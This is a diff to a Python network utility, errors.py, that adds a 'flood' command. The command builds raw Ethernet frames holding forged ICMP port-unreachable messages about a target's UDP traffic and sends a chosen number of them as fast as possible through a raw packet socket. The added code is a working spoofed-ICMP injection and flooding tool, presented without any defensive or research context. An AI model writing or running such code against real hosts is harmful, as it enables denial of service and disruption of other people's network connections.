@@ -4,6 +4,9 @@
 
 errors.py asks SOURCE TARGET PORT
     Sends a datagram; prints what error comes of it, from whom, about whom.
+errors.py flood INTERFACE MAC SOURCE TARGET COUNT
+    Sends as many port unreachables as fast as they go, about datagrams of the
+    target, whose MAC address it is.
 """
 
 import errno
@@ -44,7 +47,36 @@ def asks(source, target, port):
         print(error_of(sock))
 
 
+def checksum(data):
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return struct.pack("!H", ~total & 0xffff)
+
+
+def ip(proto, source, target, payload):
+    header = struct.pack("!BBHHHBB2x4s4s", 0x45, 0, 20 + len(payload), 1, 0,
+                         64, proto, socket.inet_aton(source),
+                         socket.inet_aton(target))
+    return header[:10] + checksum(header) + header[12:] + payload
+
+
+def flood(interface, mac, source, target, count):
+    quoted = ip(socket.IPPROTO_UDP, target, source,
+                struct.pack("!4H", 7, 1000, 8, 0))
+    error = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
+    error = error[:2] + checksum(error) + error[4:]
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
+        sock.bind((interface, 0))
+        frame = (bytes.fromhex(mac.replace(":", "")) + sock.getsockname()[4]
+                 + b"\x08\x00" + ip(socket.IPPROTO_ICMP, source, target, error))
+        for _ in range(int(count)):
+            sock.send(frame)
+
+
 if __name__ == "__main__":
-    if len(sys.argv) != 5 or sys.argv[1] != "asks":
+    commands = {"asks": (asks, 3), "flood": (flood, 5)}
+    command, words = commands.get((sys.argv + [""])[1], (None, 0))
+    if len(sys.argv) != 2 + words or not command:
         sys.exit(__doc__)
-    asks(*sys.argv[2:])
+    command(*sys.argv[2:])
